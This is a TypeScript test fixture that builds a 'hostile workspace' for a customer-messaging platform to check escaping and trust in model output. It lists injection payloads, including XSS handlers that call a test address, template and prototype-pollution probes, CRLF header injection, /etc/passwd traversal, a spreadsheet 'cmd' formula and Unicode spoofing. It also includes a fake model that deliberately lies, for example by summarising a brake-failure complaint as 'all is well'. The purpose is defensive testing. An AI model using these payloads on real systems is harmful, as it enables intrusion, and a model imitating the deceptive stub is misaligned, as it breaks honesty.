import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { FakeAnswer, FakeRequest } from "../providers/fake-openai.ts";

/** Texts that try to run, load, lead away, break out, or deceive the eye. `at` is the address that must not hear of any of them. */
export const hostileTexts = (at: string): readonly string[] => [
  `<img src=x onerror="fetch('${at}/onerror');window.touched=1">`,
  `"><svg/onload="import('${at}/svg');window.touched=1">`,
  `'-window.touched=1-'`,
  `</title><script src="${at}/script.js"></script>`,
  `</script><script>window.touched=1;document.title="taken"</script>`,
  `<a href="javascript:window.touched=1">click</a>`,
  "javascript:window.touched=1//",
  `data:text/html,<script>parent.touched=1;location="${at}/data"</script>`,
  `<style>@import "${at}/style.css"; * { display: none }</style>`,
  `<link rel=preconnect href="${at}"><meta http-equiv=refresh content="0;url=${at}/refresh">`,
  `<iframe srcdoc="<script>top.touched=1</script>"></iframe><base href="${at}/">`,
  "{{7*7}} ${7*7} #{7*7} {% raw %} <%= 7*7 %>",
  "__proto__",
  "constructor",
  "prototype.polluted",
  "%00%0d%0aSet-Cookie:%20a=b",
  "../../../../etc/passwd",
  "..\\..\\windows",
  "//elsewhere.example/path",
  "?role=admin&limit=999999#code=stolen",
  "=cmd|' /C calc'!A0",
  "+1-1@SUM(1+1)",
  "\u202eelpmaxe\u202c \u2066hidden\u2069 \u061c",
  "zero\u200bwidth\u200d\ufeff\u2060joined\u00ad",
  "\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67 \u{e0041}\u{e0042} Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f",
  "line\nbreak\ttab\u2028separator\u0085next\u001b[31mred\u0007",
  "W".repeat(400),
  "null",
  "undefined",
  " ",
];

/** A text of 100 KB without a place to break it, and one of many lines. */
export const LONG = "A".repeat(100_000);
const LINES = "line of a long text\n".repeat(1_500);

/** One customer for each text, who has it as id, name, address, trait, and word. */
export function hostileCustomers(at: string): readonly object[] {
  return hostileTexts(at).map((text, index) => ({
    id: idOf(text, index),
    traits: {
      firstName: text,
      note: { text, list: [text, { text }] },
      ...(index === 0 ? { long: LONG } : {}),
      ...(text === "__proto__" || text.trim() === "" ? {} : { [text]: text }),
    },
    identities: [
      { type: "email", value: `${index}@mail.example` },
      { type: text.trim() === "" ? "blank" : text, value: `${index} ${text}` },
    ],
    consents: [{ channel: "box", status: "granted" }],
    source: text.trim() === "" ? "crm" : text,
  }));
}

/** Signals about each of them: hostile types, sources, ids, data, words, notes, cases, promises and receipts. */
export function hostileSignals(at: string): readonly object[] {
  return hostileTexts(at).flatMap((text, index) => {
    const name = text.trim() === "" ? "blank" : text;
    const of = { specversion: "1.0", subject: idOf(text, index) };
    return [
      { ...of, id: `${index} type ${name}`, source: name, type: name, data: { text, [name === "__proto__" ? "proto" : name]: text } },
      { ...of, id: `${index} go`, source: name, type: "go", data: { text, reason: text } },
      { ...of, id: `${index} ask`, source: name, type: "ask", data: { text } },
      { ...of, id: `${index} said`, source: name, type: "message.received", data: { channel: "box", text, thread: name, subject: text } },
      { ...of, id: `${index} met`, source: name, type: "human.touch", data: { kind: "call", by: name, note: text } },
      { ...of, id: `${index} case`, source: name, type: "case.opened", data: { caseId: name, subject: text, queue: name } },
      { ...of, id: `${index} owed`, source: name, type: "promise.opened", data: { promise: name, due: "1d", owner: name } },
      ...(index === 0 ? [{ ...of, id: "long", source: "crm", type: "message.received", data: { channel: "box", text: LINES } }] : []),
    ];
  });
}

/** What an outside system says as its error, and what a language model gives as its reason. */
export const hostileError = (at: string): string => `the order system says ${hostileTexts(at)[0]}`;
export const hostileReason = (at: string): string => `it may not hold, since ${hostileTexts(at)[0]}`;

/** What the model says of a customer who has just complained: plain enough to pass every check, and false. */
export const FALSE_SUMMARY = "the customer is content and all is well";
export const COMPLAINT = "My brakes failed twice, and your garage sent me away.";

/** Signals for what only a few do: a tool is called that fails, and a model judges, writes, and leaves a conversation to a human. */
export function hostileFailures(at: string): readonly object[] {
  const [image = "", svg = "", quote = ""] = hostileTexts(at);
  return [
    ...["act", "judge", "vouch"].map((type) => ({ type, id: type, subject: image, data: { text: image } })),
    { type: "message.received", id: "complaint", subject: svg, data: { channel: "box", text: COMPLAINT, thread: "left" } },
    { type: "word", id: "word", subject: quote, data: { text: quote } },
  ].map((one) => ({ specversion: "1.0", source: "web", ...one }));
}

/** Words of a criterion that the model says is met. */
const VOUCHED = "vouched for";

/** A file name that attacks where it is printed: without the slash that no file name may have. */
const FILE = `"><svg onload=window.touched=1>`;

/** Answers a question as a model that lies, by what is asked. */
export function hostileAnswer(at: string, { schemaName = "", user }: Pick<FakeRequest, "schemaName" | "user">): FakeAnswer {
  const reason = hostileReason(at);
  if (schemaName.startsWith("judge-criteria")) {
    const verdicts = [...user.matchAll(/^(c\d+) .*$/gm)].map(([line, criterion = ""]) => ({
      ...{ criterion, reason },
      ...(line.includes(VOUCHED) ? { verdict: "met", evidence: ["customer.note.text"] } : { verdict: "unsure", evidence: [] }),
    }));
    return { value: { verdicts } };
  }
  if (/^(write|revise)-content/.test(schemaName)) return { value: { parts: [{ part: "text", text: reason }] } };
  if (schemaName.startsWith("converse"))
    return { value: { calls: [{ tool: "hand_over", input: [{ name: "summary", value: FALSE_SUMMARY }] }], say: "" } };
  return { text: reason };
}

/**
 * Writes a workspace whose names, reasons, texts and file names are hostile wherever its format lets them be, with a tool that fails.
 *
 * @param modelUrl the endpoint of its language model
 */
export function writeHostileWorkspace(dir: string, at: string, modelUrl?: string): void {
  const [image = "", svg = "", quote = "", title = ""] = hostileTexts(at);
  for (const folder of ["experiences", "tools"]) mkdirSync(join(dir, folder), { recursive: true });
  writeFileSync(
    join(dir, "tools", `${FILE}.ts`),
    `import { z } from "zod";
export const failing = {
  ...{ name: "failing", description: "Fails.", effect: "write", timeoutMs: 15000, idempotencyKey: ({ text }) => text },
  ...{ input: z.strictObject({ text: z.string() }), output: z.object({}) },
  run: async () => { throw new Error(${JSON.stringify(hostileError(at))}); },
};
`,
  );
  const files: Readonly<Record<string, object>> = {
    "sentient.yaml": {
      version: 1,
      name: `${title}${image}`,
      timezone: "Europe/Berlin",
      departments: ["service", "sales"],
      channels: { box: { kind: "file" }, desk: { kind: "human", queue: svg } },
      moments: {
        ...{ went: { on: "go", expires: "3d" }, asked: { on: "ask", expires: "3d" } },
        ...{ acted: { on: "act", expires: "3d" }, judged: { on: "judge", expires: "3d" } },
        ...{ vouched: { on: "vouch", expires: "3d" }, worded: { on: "word", expires: "3d" } },
        complained: { on: "message.received", when: 'signal.data.thread == "left"', expires: "3d" },
      },
      ...(modelUrl === undefined ? {} : { model: { name: image, baseUrl: modelUrl, apiKey: "a key" } }),
      promises: { reply: { due: "1h", owner: image } },
      governance: {
        caps: [{ id: "weekly", max: 20, window: "7d" }],
        suppress: [{ when: "customer.openCases > 0", departments: ["sales"], reason: image }],
        approval: [{ experiences: ["approved-text", "vouched"], reason: svg }],
      },
      learning: { explore: "none" },
    },
    "experiences/told.yaml": {
      ...experience("told", image, { box: { text: `{{ customer.firstName }} ${quote}` } }),
      ...{ status: "canary", canary: { share: "100%", guards: [{ outcome: "ignored", max: "90%" }] } },
    },
    "experiences/task.yaml": experience("task", svg, { desk: { summary: "{{ moment.data.text }}" } }, "asked"),
    "experiences/approved-text.yaml": {
      ...experience("approved-text", title, { box: { subject: "{{ customer.firstName }}", body: "<p>{{ moment.data.text }}</p>" } }),
      value: 90,
      applicability: [{ when: "customer.firstName.size() % 2 == 0", reason: image }],
    },
    [`experiences/${FILE}.yaml`]: {
      ...experience("acting", svg, { box: { text: "Done" } }, "acted"),
      value: 200,
      action: { tool: "failing", input: { text: "{{ moment.data.text }}" } },
    },
    "experiences/judged.yaml": {
      ...experience("judged", image, { box: { text: "{{ customer.firstName }} wants it" } }, "judged"),
      value: 200,
      judge: { ask: `Is ${svg} wanted?`, without: "fail" },
    },
    "experiences/vouched.yaml": {
      ...experience("vouched", image, { box: { text: "{{ customer.firstName }} has earned it" } }, "vouched"),
      value: 300,
      judge: { ask: `Is ${svg} ${VOUCHED}?`, without: "fail" },
    },
    "experiences/worded.yaml": {
      ...experience("worded", image, { box: { text: "{{ customer.firstName }}, the market is open", brief: image } }, "worded"),
      value: 200,
    },
    "experiences/answered.yaml": {
      ...experience("answered", svg, { box: { text: "A colleague answers soon" } }, "complained"),
      ...{ value: 200, transactional: true, converse: { brief: image, settle: "1s" } },
    },
    "experiences/kept-back.yaml": { ...experience("kept-back", quote, { box: { text: "x" } }), department: "sales" },
  };
  // JSON is YAML.
  for (const [name, content] of Object.entries(files)) writeFileSync(join(dir, name), JSON.stringify(content));
}

// --- internal ---

const idOf = (text: string, index: number): string => (text.trim() === "" ? `blank-${index}` : text);

const experience = (id: string, name: string, channels: object, moment = "went"): object => ({
  ...{ id, name, serves: [moment], status: "approved", channels },
});
